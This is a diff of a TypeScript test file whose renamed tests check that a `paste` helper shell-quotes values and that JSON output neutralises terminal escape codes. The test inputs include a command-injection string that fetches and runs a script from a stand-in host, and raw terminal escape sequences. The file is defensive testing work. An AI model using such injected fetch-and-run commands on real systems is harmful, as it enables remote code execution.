@@ -6,7 +6,7 @@ import { expect, test } from 'vitest'
 import { asJson } from '../../src/text/json.ts'
 import { asWord, paste } from '../../src/text/paste.ts'
 
-test('a value in a command is one word of a shell, whatever it holds', () => {
+test('a value in a command is one word of a shell, whatever it contains', () => {
   expect(paste`cortext resume ${'001-plan-日本語'} --force`).toBe('cortext resume 001-plan-日本語 --force')
   expect(paste`cortext resume ${'001;curl evil.sh|sh;#'} --force`).toBe(
     "cortext resume '001;curl evil.sh|sh;#' --force",
@@ -25,7 +25,7 @@ test('a value in a command is one word of a shell, whatever it holds', () => {
   )
 })
 
-test('no command to copy is put together without it', () => {
+test('every command to copy is made by `paste`', () => {
   const src = join(import.meta.dirname, '..', '..', 'src')
   const files = readdirSync(src, { recursive: true, encoding: 'utf8' }).filter((path) => path.endsWith('.ts'))
   const command = /\b(?:cortext [a-z]+(?: [\w-]+)*|rm|mv|cd|ls -\w+|tail|diff|df -h|kill) \$\{/
@@ -49,7 +49,7 @@ const NOT_TO_COPY = [
   'store/machine/locks/lock.ts',
 ]
 
-test('JSON holds nothing that a terminal obeys, and the same value', () => {
+test('JSON contains nothing that a terminal obeys, and reads back as the same value', () => {
   fc.assert(
     fc.property(fc.jsonValue(), fc.string({ unit: 'binary' }), (value, text) => {
       const json = asJson({ value, text, evil: '\u009b2J\u007f\u202e\u001b]0;x\u0007' }, 2)
